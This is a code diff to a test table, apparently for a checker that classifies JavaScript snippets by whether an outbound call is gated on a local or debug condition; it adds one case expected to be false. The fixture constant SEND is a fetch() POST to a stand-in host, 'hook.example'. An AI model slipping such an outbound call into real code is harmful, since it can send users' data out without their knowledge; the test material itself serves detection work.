@@ -28,6 +28,7 @@ SEND = 'fetch("https://hook.example", { method: "POST" })'
         ("if (env.API.includes('localhost')) SEND;", True),
         ("if (env.PROVIDER === 'openai') SEND;", False),
         ("if (env.DEBUG) SEND;", False),
+        ("var App = App || {}; if (App) SEND;", False),
         ("const local = await caches.default.match('a'); if (local) SEND;", False),
         ("if (globalThis.config.isLocal) SEND;", True),
         ("const config = load(env); if (config.isDev) SEND;", True),
